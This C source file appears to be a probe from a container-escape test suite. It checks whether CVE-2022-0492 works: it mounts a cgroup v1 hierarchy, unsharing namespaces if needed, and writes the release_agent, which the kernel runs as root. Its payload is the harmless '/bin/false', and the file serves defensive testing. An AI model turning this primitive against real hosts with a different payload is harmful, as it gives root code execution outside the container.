/* SPDX-License-Identifier: MIT */
/* A program of the host that the kernel runs as root when a group of version 1 gets empty (CVE-2022-0492): by a
 * hierarchy of its own, named argv[2], also from new namespaces. */
#include <sched.h>
#include <sys/mount.h>
#include <sys/stat.h>

#include "attack.h"

static int set_agent(const char *name)
{
	char options[128];
	mkdir("/tmp/groups", 0755);
	snprintf(options, sizeof(options), "none,name=%s", name);
	if (mount("none", "/tmp/groups", "cgroup", 0, options) < 0)
		return -1;
	int fd = open("/tmp/groups/release_agent", O_WRONLY);
	int r = fd < 0 ? -1 : (int)write(fd, "/bin/false", 10);
	int saved = errno;
	close(fd);
	umount2("/tmp/groups", MNT_DETACH);
	errno = saved;
	return r;
}

int main(int argc, char **argv)
{
	int r = set_agent(argv[2]);
	if (r < 0 && (errno == ENODEV || errno == EINVAL))
		return UNABLE;
	if (r < 0 && unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) == 0)
		r = set_agent(argv[2]);
	return r < 0 ? refused("release_agent") : GOT_OUT;
}
